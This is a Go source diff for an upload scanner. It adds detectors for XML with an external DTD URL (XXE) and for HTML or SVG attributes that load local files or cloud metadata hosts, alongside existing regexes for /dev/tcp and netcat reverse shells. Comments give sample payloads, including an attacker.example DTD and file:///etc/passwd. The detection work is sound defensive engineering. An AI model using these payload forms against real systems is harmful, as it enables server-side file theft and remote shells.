@@ -186,3 +186,37 @@ var (
 	reDevTCP     = regexp.MustCompile(`/dev/(?:tcp|udp)/[a-z0-9.\-\[\]:]+/\d+`)
 	reNetcatExec = regexp.MustCompile(`\bn(?:c|cat|etcat)(?:\.exe)?\s+(?:-[a-z]+\s+)*-[a-z]*[ec]\s`)
 )
+
+// xmlExternalDTDFile: an uploaded XML document whose DOCTYPE names an
+// external DTD by URL (<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd">)
+// that is not one of the W3C public DTDs SVG and XHTML files carry: the
+// importer's parser fetches it, and a DTD can declare the entities that
+// read and send a file.
+func xmlExternalDTDFile(lc string) bool {
+	i := strings.Index(lc, "<!doctype")
+	if i < 0 {
+		return false
+	}
+	return reExternalDTD.MatchString(lc[i:]) && !reXXEW3C.MatchString(lc[i:])
+}
+
+// reExternalDTD: a DOCTYPE whose external identifier is a URL.
+var reExternalDTD = regexp.MustCompile(`^<!doctype\s+[\w:.-]+\s+(?:system|public\s+["'][^"']*["'])\s+["'](?:https?|ftp|file|jar|netdoc)://`)
+
+// localReferenceFile: an uploaded HTML or SVG document with an attribute
+// that loads a local file (src="file:///etc/passwd", xlink:href="file:…")
+// or the cloud metadata service: an HTML-to-PDF renderer or an image
+// converter fetches it on the server and puts what it read in its output.
+func localReferenceFile(lc string) bool {
+	for _, a := range [...]string{`="file:`, `='file:`, `= "file:`, `=file:`} {
+		if strings.Contains(lc, a) {
+			return true
+		}
+	}
+	for _, h := range metadataHosts {
+		if strings.Contains(lc, h) {
+			return true
+		}
+	}
+	return false
+}
